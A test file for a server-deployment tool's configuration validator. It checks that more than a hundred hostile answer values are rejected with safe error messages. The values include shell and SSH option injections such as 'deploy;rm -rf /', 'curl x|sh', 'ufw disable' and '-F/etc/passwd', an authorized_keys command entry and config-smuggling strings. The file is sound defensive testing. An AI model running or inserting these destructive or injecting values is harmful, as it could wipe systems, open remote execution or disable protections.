import { describe, expect, it } from 'vitest';
import { answersSchema } from '../../src/answers/schema.js';
import { UserError } from '../../src/core/errors.js';
import { validateAnswers } from '../../src/answers/load.js';
import { KEY, withField } from './field-fixture.js';

const hostile: [string, unknown][] = [
  // shell metacharacters and substitutions
  ['deployUser.name', 'deploy;rm -rf /'],
  ['deployUser.name', '$(reboot)'],
  ['deployUser.name', '`id`'],
  ['deployUser.name', 'deploy && curl x|sh'],
  ['deployUser.name', "de'ploy"],
  ['deployUser.name', 'de"ploy'],
  ['deployUser.name', 'deploy\nroot'],
  ['deployUser.name', 'deploy\r'],
  ['deployUser.name', 'deploy\0'],
  ['deployUser.name', '-oProxyCommand=x'],
  ['deployUser.name', 'dеploy'], // Cyrillic е
  ['deployUser.name', 'a'.repeat(33)],
  ['deployUser.name', 'root'],
  ['deployUser.name', 'Deploy'],
  ['deployUser.name', ''],
  ['target.host', 'example.com;id'],
  ['target.host', '-oProxyCommand=touch /tmp/x'],
  ['target.host', 'host name'],
  ['target.host', 'exa\nmple.com'],
  ['target.host', 'ехample.com'], // Cyrillic х
  ['target.host', `${'a'.repeat(64)}.com`],
  ['target.host', '$(hostname)'],
  ['target.user', 'root;id'],
  ['target.user', '-l'],
  ['target.identityFile', '~/.ssh/id;rm'],
  ['target.identityFile', '-F/etc/passwd'],
  ['target.identityFile', '~/.ssh/$(id)'],
  ['target.port', 0],
  ['target.port', 65536],
  ['target.port', '22; id'],
  ['target.port', 22.5],
  ['ssh.port', -1],
  ['operatorIp', '1.2.3.4; ufw disable'],
  ['operatorIp', '1.2.3.4/33'],
  ['operatorIp', '256.1.1.1'],
  ['operatorIp', '01.2.3.4'],
  ['operatorIp', '1.2.3.4\n'],
  ['operatorIp', 'any'],
  // no-lockout: ranges that open SSH to everyone, and addresses no SSH client has
  ['operatorIp', '0.0.0.0/0'],
  ['operatorIp', '::/0'],
  ['operatorIp', '0.0.0.0'],
  ['operatorIp', '::'],
  ['operatorIp', '0.0.0.0/1'],
  ['operatorIp', '10.0.0.0/16'],
  ['operatorIp', '2001:db8::/32'],
  ['operatorIp', '224.0.0.0/4'],
  ['operatorIp', '239.1.2.3'],
  ['operatorIp', 'ff02::1'],
  ['operatorIp', '255.255.255.255'],
  ['operatorIp', '127.0.0.1'],
  ['operatorIp', '::1'],
  ['operatorIp', '240.0.0.1'],
  ['operatorIp', '0.1.2.3'],
  ['operatorIp', '::ffff:203.0.113.7'],
  ['openclaw.channels', [{ type: 'telegram', allowFrom: ['123456789; rm'] }]],
  ['openclaw.channels', [{ type: 'telegram', allowFrom: ['@someone'] }]],
  ['openclaw.channels', [{ type: 'telegram', allowFrom: ['123456789\n"dmPolicy":"open"'] }]],
  ['openclaw.channels', [{ type: 'whatsapp', allowFrom: ['+1555$(id)'] }]],
  ['openclaw.channels', [{ type: 'whatsapp', allowFrom: ['15555550123'] }]],
  ['openclaw.channels', [{ type: 'discord', allowFrom: ['12345'] }]],
  ['openclaw.channels', [{ type: 'slack', allowFrom: ['u0123abcdef'] }]],
  ['openclaw.channels', [{ type: 'telegram', dmPolicy: 'open', allowFrom: ['*'] }]],
  ['openclaw.channels', [{ type: 'irc' }]],
  ['openclaw.channels', [{ type: 'telegram', allowFrom: ['123456789'], botToken: '123:ABC' }]],
  ['openclaw.tools.deny', ['exce']],
  ['openclaw.tools.deny', ['exec\n']],
  ['openclaw.tools.deny', ['*']],
  ['openclaw.version', '2026.9.6; id'],
  ['openclaw.version', 'latest'],
  ['openclaw.image', 'ghcr.io/openclaw/openclaw:latest\nprivileged: true'],
  ['openclaw.gatewayPort', 22],
  ['openclaw.memoryLimit', '2g --privileged'],
  ['backups.dir', '/var/backups/$(id)'],
  ['backups.dir', 'relative/dir'],
  ['backups.dir', '/var/../etc'],
  ['backups.dir', '/var/backups/open claw'],
  ['backups.dir', '/'],
  // no-lockout: system directories (a root-only /usr or /home locks every other login out)
  ['backups.dir', '/usr'],
  ['backups.dir', '/etc'],
  ['backups.dir', '/var'],
  ['backups.dir', '/home'],
  ['backups.dir', '/home/deploy'],
  ['backups.dir', '/.'],
  ['backups.dir', '/var/lib'],
  ['backups.dir', '/root'],
  ['backups.dir', '/tmp'],
  ['backups.dir', '/var/backups'],
  ['backups.dir', '/usr/local/backups'],
  ['backups.dir', '/etc/openclaw'],
  ['backups.dir', '/var/backups/./openclaw'],
  ['backups.dir', '/var/backups//openclaw'],
  ['backups.dir', '/var/backups/openclaw/'],
  ['backups.time', '3am'],
  ['backups.time', '25:00'],
  ['fail2ban.banTime', '1h; id'],
  ['fail2ban.findTime', '0m'],
  ['monitoring.ntfyTopic', 'alerts; curl evil'],
  ['monitoring.ntfyServer', 'http://ntfy.sh'],
  ['monitoring.ntfyServer', 'https://ntfy.sh/?a=$(id)'],
  ['monitoring.discordWebhook', 'https://discord.com/api/webhooks/1/secret'],
  ['deployUser.sudoPassword', 'hunter2hunter2'],
  ['deployUser.sudoPassword', { env: 'lower-case' }],
  ['deployUser.sudoPassword', { env: 'X', file: '/tmp/x' }],
  ['deployUser.authorizedKeys', ['command="rm -rf /" ' + KEY]],
  ['deployUser.authorizedKeys', [KEY + '\nssh-ed25519 AAAA evil']],
  ['deployUser.authorizedKeys', ['ssh-dss AAAAB3NzaC1kc3MAAACBAP']],
  ['deployUser.authorizedKeys', ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOzac/xuB9gNp']],
  ['deployUser.authorizedKeys', [KEY + ' $(id)']],
  ['tailscale.hostname', 'open claw'],
  ['access', { mode: 'caddy', domain: 'example.com;id', email: 'a@b.co' }],
  ['access', { mode: 'caddy', domain: 'claw.example.com', email: 'a@b.co\nBcc: x' }],
  ['access', { mode: 'caddy', domain: '203.0.113.10', email: 'a@b.co' }],
  ['access', { mode: 'tailscale-serve', tailnetDomain: 'tail.ts.net' }], // tailscale not enabled
  ['stopBefore', 'everything'],
  ['unknownKey', true],
];

describe('hostile answers are refused before any plan exists', () => {
  it('has at least 50 hostile values', () => expect(hostile.length).toBeGreaterThanOrEqual(50));

  it.each(hostile.map(([p, v], i) => [i, p, v] as const))('#%i %s ← %j', (_i, path, value) => {
    const raw = withField(path, value);
    const r = answersSchema.safeParse(raw);
    expect(r.success).toBe(false);
    let err: unknown;
    try {
      validateAnswers(raw, 'test answers');
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(UserError);
    const text = (err as UserError).message;
    // The error names a field and never carries control characters back to the terminal.
    expect(text).toMatch(/:\s/);
    expect(text).not.toMatch(/[\0\r]/);
    if (path === 'deployUser.sudoPassword' && typeof value === 'string') expect(text).not.toContain(value);
  });

  it('the baseline answers are valid (so each failure above is the hostile field)', () => {
    expect(answersSchema.safeParse(withField('deployUser.name', 'deploy')).success).toBe(true);
  });
});
